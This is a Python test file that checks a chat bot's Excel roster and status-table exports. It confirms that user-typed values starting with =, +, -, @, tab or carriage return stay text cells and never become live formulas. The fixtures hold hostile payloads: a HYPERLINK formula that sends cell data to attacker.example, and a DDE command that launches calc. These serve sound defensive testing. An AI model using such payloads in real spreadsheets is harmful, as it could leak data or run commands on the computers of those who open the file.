"""Formula injection: whatever a person typed reaches the organiser's Excel file as words, never as a
formula Excel would run (OWASP: cells starting with =, +, -, @, tab, carriage return).

The roster and the status table are made by the real chat flows from a real database; the .xlsx
is then read twice: by openpyxl (data types, formats, the quote-prefix flag) and as raw XML (no
`<f>` element anywhere, which is what Excel would evaluate).
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import openpyxl
from sqlalchemy import update

from domain.spreadsheets import roster_xlsx, table_xlsx
from storage.models import TaskUnit
from tests.conftest import Clock, Db
from tests.flows.harness import chat_as, demo_world, make_runtime, register

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://attacker.example/?"&E6,"Xem chi tiết")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+84 912 345 678", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]


def _formulas(data: bytes) -> list[str]:
    """Every formula element in every sheet of the workbook's XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [m for name in archive.namelist() if name.startswith("xl/worksheets/")
                for m in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())]


def _text_cells(data: bytes) -> dict[object, openpyxl.cell.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return {cell.value: cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}


def test_hostile_values_are_text_cells_shown_as_typed() -> None:
    rows = [("Phường Trấn Biên", f"Người {i}", value, value, value, False) for i, value in enumerate(HOSTILE)]
    data = roster_xlsx(title=HYPERLINK, subtitle=DDE, rows=rows)
    assert _formulas(data) == []
    cells = _text_cells(data)
    for value in HOSTILE:
        cell = cells[value]  # the value itself, no apostrophe added: a phone stays readable
        assert cell.data_type == "s" and cell.number_format == "@" and cell.quotePrefix, repr(value)
    assert cells["Người 0"].number_format == "@" and not cells["Người 0"].quotePrefix
    assert isinstance(openpyxl.load_workbook(io.BytesIO(data)).active["A5"].value, int)  # STT stays a number


def test_control_characters_do_not_break_the_export() -> None:
    data = table_xlsx(title="T", subtitle="S", header=("A", "B"), rows=[("ghi\x01chú", "=a\x00b")], widths=(5, 5))
    cells = _text_cells(data)
    assert "ghichú" in cells and cells["=ab"].quotePrefix and _formulas(data) == []


async def test_the_roster_from_chat_keeps_a_typed_formula_as_text(db: Db, clock: Clock) -> None:
    await demo_world(db, clock)
    runtime = make_runtime(db.sessions, clock)
    await register(chat_as(runtime, "officer"), [("Nguyễn Văn An", HYPERLINK, "0919422038"),
                                                 ("Lê Thị Cúc", DDE, "0912000111")])
    organiser = chat_as(runtime, "organizer")
    await organiser.say("/xuat")
    await organiser.press("Hội nghị trực tuyến")
    file = organiser.last[0].file
    assert file is not None
    assert _formulas(file.data) == []
    cells = _text_cells(file.data)
    assert cells[HYPERLINK].quotePrefix and cells[DDE].quotePrefix
    assert cells["0919422038"].data_type == "s"


async def test_the_status_table_keeps_a_progress_note_as_text(sqlite_db: Db, clock: Clock) -> None:
    await demo_world(sqlite_db, clock)
    async with sqlite_db.sessions() as s:
        await s.exec(update(TaskUnit).values(note=DDE))  # type: ignore[call-overload]
        await s.commit()
    organiser = chat_as(make_runtime(sqlite_db.sessions, clock), "organizer")
    await organiser.say("/xuat")
    await organiser.press("📑")
    file = organiser.last[0].file
    assert file is not None and file.name.startswith("tien-do-")
    assert _formulas(file.data) == []
    assert _text_cells(file.data)[DDE].quotePrefix


def test_every_export_writes_through_the_one_helper() -> None:
    """openpyxl is imported by domain/spreadsheets.py alone: no export can bypass `put`."""
    importers = sorted(str(path.relative_to(ROOT)) for package in ("bot", "handlers", "domain", "storage")
                       for path in (ROOT / package).rglob("*.py") if re.search(r"^\s*(from|import) openpyxl",
                                                                                path.read_text(encoding="utf-8"),
                                                                                re.M))
    assert importers == ["domain/spreadsheets.py"]
